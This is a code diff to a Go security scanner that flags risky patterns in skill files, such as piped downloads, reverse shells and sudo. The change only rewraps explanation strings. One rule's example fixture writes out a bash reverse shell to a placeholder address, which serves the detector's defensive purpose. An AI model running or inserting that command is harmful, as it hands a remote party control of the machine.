@@ -211,7 +211,8 @@ func securityRules() []Rule {
 		},
 		{
 			ID: PipeToShell, Title: "download that runs without review", Severity: w, Capability: true,
-			Why: "The owner of the address can run any program on the machine. skillpm does not report well-known installers.",
+			Why: "The owner of the address can run any program on the machine. skillpm does not report well-known " +
+				"installers.",
 			Fix: "download the file, verify its digest, and then run the file",
 
 			Bad: "-- deploy/SKILL.md\n" +
@@ -295,7 +296,8 @@ func securityRules() []Rule {
 		},
 		{
 			ID: ReverseShell, Title: "reverse shell", Severity: a,
-			Why: "Such text is often harmless, but attacks also contain it. Skills for security tests contain examples.",
+			Why: "Such text is often harmless, but attacks also contain it. Skills for security tests contain " +
+				"examples.",
 			Fix: "explain the purpose of the command in the text",
 
 			Bad:  head + "```sh\nbash -i >& /dev/" + "tcp/192.0.2.7/4444 0>&1\n```\n",
@@ -312,7 +314,8 @@ func securityRules() []Rule {
 		},
 		{
 			ID: Sudo, Title: "sudo", Severity: a,
-			Why: "Such text is often harmless, but attacks also contain it. The command runs with administrator rights.",
+			Why: "Such text is often harmless, but attacks also contain it. The command runs with administrator " +
+				"rights.",
 			Fix: "explain in the text why the command requires administrator rights",
 
 			Bad:  head + "```sh\nsu" + "do systemctl restart web\n```\n",
